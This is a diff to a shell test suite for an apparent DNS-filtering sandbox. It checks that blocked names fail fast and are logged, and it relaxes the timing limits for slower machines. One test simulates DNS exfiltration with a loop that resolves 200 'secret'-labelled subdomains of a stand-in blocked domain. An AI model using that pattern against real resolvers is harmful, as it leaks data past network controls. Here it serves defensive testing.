@@ -44,7 +44,8 @@ run_app "$NET" resolve-connect "$INET4" evil.example.org 443 3 >/dev/null 2>&1
 rc=$?
 ms=$((($(date +%s%N) - start) / 1000000))
 tb_check "a name no rule allows does not resolve (rc $rc)" [ "$rc" = 6 ]
-tb_check "and fails fast (${ms} ms < 2000)" [ "$ms" -lt 2000 ]
+lim=$(tb_ms_limit 2000)
+tb_check "and fails fast (${ms} ms < $lim)" [ "$ms" -lt "$lim" ]
 tb_check "the blocked query is logged with the name and its known label" \
 	[ "$(tb_log_count '"event":"blocked"' '"host":"evil.example.org"' \
 		'"label":"Example services"' '"dport":53' 'DNS query (A)')" -ge 1 ]
@@ -63,13 +64,18 @@ tb_check "dns_allow resolves but does not allow the connection" [ "$?" = 1 ]
 
 # DNS-looking exfiltration: 200 unique names under one blocked domain. Nothing reaches the
 # resolver, and the log folds them (the first whole, the rest as *.leak.example.org).
+start=$(date +%s)
 run_app sh -c "i=0; while [ \$i -lt 200 ]; do i=\$((i + 1));
 	$NET resolve-connect $INET4 d\$i-secret.leak.example.org 443 1 >/dev/null 2>&1; done"
+secs=$(($(date +%s) - start))
 sleep 1.5
 recs=$(tb_log_count 'leak.example.org')
 sum=$(grep -F 'leak.example.org' "$TB_LOG" | sed -n 's/.*"count":\([0-9]*\).*/\1/p' |
 	awk '{ s += $1 } END { print s + 0 }')
-tb_check "200 unique blocked names fold into $recs records" [ "$recs" -ge 1 -a "$recs" -le 4 ]
+# One record per 1-second window at most: 4 here, more on a machine that took longer.
+lim=$((secs + 2 > 4 ? secs + 2 : 4))
+tb_check "200 unique blocked names fold into $recs records (<= $lim, $secs s)" \
+	[ "$recs" -ge 1 -a "$recs" -le "$lim" ]
 tb_check "whose counts add up to 200 (got $sum)" [ "$sum" = 200 ]
 tb_check "the folded record names the domain" [ "$(tb_log_count '"host":"*.leak.example.org"')" -ge 1 ]
 
